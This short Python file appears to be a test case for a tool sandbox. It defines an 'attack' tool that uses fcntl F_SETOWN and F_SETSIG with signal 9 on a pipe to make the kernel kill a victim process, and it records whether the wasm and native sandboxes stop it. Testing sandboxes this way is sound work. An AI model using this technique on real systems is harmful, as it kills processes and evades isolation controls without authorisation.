"""Has the kernel send a signal: to a process that is named the owner of a pipe."""
# takes: victim
# effect: victim killed
# expect-wasm: raised | load-failed
# expect-native: raised

import fcntl
import os

from luthier import tool

F_SETSIG = 10


@tool
def attack(victim: int) -> str:
    """Makes the victim owner of a pipe, and writes to it."""
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, victim)
    fcntl.fcntl(reader, F_SETSIG, 9)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"x")
    return "escaped: the kernel did it"
